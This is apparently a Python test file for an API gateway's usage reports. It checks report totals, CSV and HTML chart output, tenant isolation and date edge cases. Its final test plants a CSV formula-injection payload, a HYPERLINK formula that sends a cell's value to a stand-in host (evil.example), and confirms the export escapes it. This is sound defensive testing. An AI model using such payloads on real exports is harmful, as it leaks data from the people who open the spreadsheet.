"""Usage reports over HTTP: the admin's, the tenant's own, the chart; and tenant isolation."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from gateway.money import to_decimal
from gateway.records import ApiKey, UsageRecord
from tests.conftest import ADMIN_TOKEN, Gateway

ADMIN = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
NOV_1 = dt.datetime(2026, 11, 1, tzinfo=dt.UTC).timestamp()
DAY = 86_400.0
PERIOD = "from=2026-11-01&to=2026-11-03"


def auth(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


def row(
    n: int,
    key: ApiKey,
    started_at: float,
    model: str,
    prompt: int,
    completion: int,
    cost: int,
    cached: int = 0,
) -> UsageRecord:
    return UsageRecord(
        f"req-{key.tenant_name}-{n}",
        key.tenant_id,
        key.id,
        model,
        "chat.completions",
        started_at,
        prompt_tokens=prompt,
        completion_tokens=completion,
        ended_at=started_at + 1,
        cost_pico=cost,
        cached_tokens=cached,
    )


async def seed(gw: Gateway) -> tuple[str, ApiKey, str, ApiKey, list[UsageRecord]]:
    """Tenant a: rows on 1 and 3 November plus rows just outside; tenant b: one big row inside."""
    a_secret, a = await gw.new_key("tenant-a")
    b_secret, b = await gw.new_key("tenant-b")
    a_rows = [
        row(1, a, NOV_1, "m1", 10, 5, 1_500_000, cached=8),  # first second of the period: included
        row(2, a, NOV_1 + 3600, "m2", 7, 3, 333_333_333_333),
        row(3, a, NOV_1 + 3 * DAY - 1, "m1", 1, 1, 1),  # last second of 3 November: included
    ]
    outside = [
        row(4, a, NOV_1 - 1, "m1", 1000, 1000, 10**12),  # 31 October
        row(5, a, NOV_1 + 3 * DAY, "m1", 1000, 1000, 10**12),  # 4 November
    ]
    assert await gw.state.store.insert_usage([*a_rows, *outside, row(1, b, NOV_1, "m1", 99_000, 1, 7)]) == 6
    return a_secret, a, b_secret, b, a_rows


def cost_of(rows: list[UsageRecord]) -> str:
    return f"{to_decimal(sum(r.cost_pico for r in rows)):.12f}"


async def test_admin_report_totals_reconcile_with_the_ledger_rows(gateway: Gateway) -> None:
    _, a, _, _, rows = await seed(gateway)
    for group_by, groups in (("day", ["2026-11-01", "2026-11-03"]), ("model", ["m1", "m2"]), ("key", [a.id])):
        resp = await gateway.client.get(
            f"/admin/usage?tenant=tenant-a&{PERIOD}&group_by={group_by}", headers=ADMIN
        )
        assert resp.status_code == 200
        report = resp.json()
        assert (report["tenant"], report["from"], report["to"], report["group_by"]) == (
            "tenant-a",
            "2026-11-01",
            "2026-11-03",
            group_by,
        )
        assert [line["group"] for line in report["data"]] == groups
        total = report["total"]
        assert total == {
            "group": "total",
            "requests": 3,
            "prompt_tokens": 18,
            "cached_tokens": 8,
            "completion_tokens": 9,
            "total_tokens": 27,
            "cost": cost_of(rows),
        }
        assert total["cost"] == "0.333334833334"
        for field in ("requests", "prompt_tokens", "cached_tokens", "completion_tokens", "total_tokens"):
            assert sum(line[field] for line in report["data"]) == total[field]
        assert sum(Decimal(line["cost"]) for line in report["data"]) == Decimal(total["cost"])


async def test_admin_report_as_csv_and_for_every_tenant(gateway: Gateway) -> None:
    await seed(gateway)
    resp = await gateway.client.get(
        f"/admin/usage?tenant=tenant-a&{PERIOD}&group_by=model&format=csv", headers=ADMIN
    )
    assert resp.headers["content-type"].startswith("text/csv")
    assert resp.text == (
        "model,requests,prompt_tokens,completion_tokens,total_tokens,cost,currency,cached_tokens\n"
        "m1,2,11,6,17,0.000001500001,USD,8\n"
        "m2,1,7,3,10,0.333333333333,USD,0\n"
        "total,3,18,9,27,0.333334833334,USD,8\n"
    )
    everyone = (await gateway.client.get(f"/admin/usage?{PERIOD}&group_by=model", headers=ADMIN)).json()
    assert everyone["tenant"] is None and everyone["total"]["prompt_tokens"] == 18 + 99_000


async def test_admin_report_rejects_bad_periods_and_unknown_tenants(gateway: Gateway) -> None:
    for query, status, param in (
        ("tenant=nobody&" + PERIOD, 404, None),
        ("from=2026-11-03&to=2026-11-01", 400, "to"),
        ("from=November&to=2026-11-01", 400, "from"),
        ("from=2999-01-01", 400, "to"),  # to defaults to today, before that from (test_usage_defaults)
        (PERIOD + "&group_by=hour", 400, "group_by"),
        (PERIOD + "&format=xml", 400, "format"),
    ):
        resp = await gateway.client.get(f"/admin/usage?{query}", headers=ADMIN)
        assert resp.status_code == status, query
        assert resp.json()["error"]["param"] == param, query


async def test_a_tenant_reads_its_own_usage_and_never_another_tenants(gateway: Gateway) -> None:
    a_secret, _, b_secret, b, rows = await seed(gateway)
    mine = await gateway.client.get(f"/v1/usage?{PERIOD}&group_by=model", headers=auth(a_secret))
    assert mine.status_code == 200
    admin = await gateway.client.get(f"/admin/usage?tenant=tenant-a&{PERIOD}&group_by=model", headers=ADMIN)
    assert mine.json() == admin.json()
    assert mine.json()["tenant"] == "tenant-a" and mine.json()["total"]["cost"] == cost_of(rows)
    assert mine.json()["total"]["cached_tokens"] == 8
    theirs = (await gateway.client.get(f"/v1/usage?{PERIOD}", headers=auth(b_secret))).json()
    assert theirs["tenant"] == "tenant-b" and theirs["total"]["prompt_tokens"] == 99_000

    for attempt in ("tenant=tenant-b", f"tenant={b.tenant_id}"):
        resp = await gateway.client.get(f"/v1/usage?{PERIOD}&{attempt}", headers=auth(a_secret))
        assert resp.status_code == 400 and "99000" not in resp.text
        assert resp.json()["error"]["param"] == "tenant"
    for path in (f"/admin/usage?tenant=tenant-b&{PERIOD}", "/admin/keys?tenant=tenant-b"):
        resp = await gateway.client.get(path, headers=auth(a_secret))
        assert resp.status_code == 403 and "99000" not in resp.text and b.id not in resp.text
    anonymous = await gateway.client.get(f"/v1/usage?{PERIOD}")
    assert anonymous.status_code == 401


async def test_usage_chart_is_self_contained_html_with_the_reports_totals(gateway: Gateway) -> None:
    _, _, _, _, rows = await seed(gateway)
    resp = await gateway.client.get(f"/admin/usage/chart?tenant=tenant-a&{PERIOD}", headers=ADMIN)
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/html")
    page = resp.text
    assert page.count("<svg") == 2 and "<script" not in page and "src=" not in page and "href=" not in page
    assert "Usage of tenant-a" in page
    assert "<td>m1</td><td>17</td><td>8</td><td>0.000001500001</td>" in page
    assert f'<tr class="total"><td>total</td><td>27</td><td>8</td><td>{cost_of(rows)}</td></tr>' in page
    assert page.count("<rect") == 2 * 3  # two panels; bars for (1 Nov, m1), (1 Nov, m2), (3 Nov, m1)
    csv_text = (
        await gateway.client.get(f"/admin/usage?tenant=tenant-a&{PERIOD}&format=csv", headers=ADMIN)
    ).text
    assert list(csv.reader(io.StringIO(csv_text)))[-1][5] == cost_of(rows)


async def test_a_period_ending_on_the_last_representable_day_is_a_report_not_a_500(gateway: Gateway) -> None:
    """``to=9999-12-31`` was a 500 for any tenant: the day after it does not exist as a date."""
    a_secret, _, _, _, rows = await seed(gateway)
    mine = await gateway.client.get("/v1/usage?from=2026-11-01&to=9999-12-31", headers=auth(a_secret))
    assert mine.status_code == 200
    assert mine.json()["to"] == "9999-12-31" and mine.json()["total"]["requests"] == len(rows) + 1
    everything = await gateway.client.get("/admin/usage?from=0001-01-01&to=9999-12-31", headers=ADMIN)
    assert everything.status_code == 200 and everything.json()["total"]["requests"] == 6


async def test_a_formula_in_a_ledger_row_reaches_the_csv_as_text(gateway: Gateway) -> None:
    """A model name a tenant chose, stored before names were checked, was a live formula in the
    admin's spreadsheet."""
    secret, key = await gateway.new_key("tenant-a")
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    await gateway.state.store.insert_usage([row(1, key, NOV_1, formula, 1, 1, 1)])
    for path, headers in (("/admin/usage", ADMIN), ("/v1/usage", auth(secret))):
        resp = await gateway.client.get(f"{path}?{PERIOD}&group_by=model&format=csv", headers=headers)
        assert resp.status_code == 200
        cells = list(csv.reader(io.StringIO(resp.text)))
        assert cells[1][0] == "'" + formula
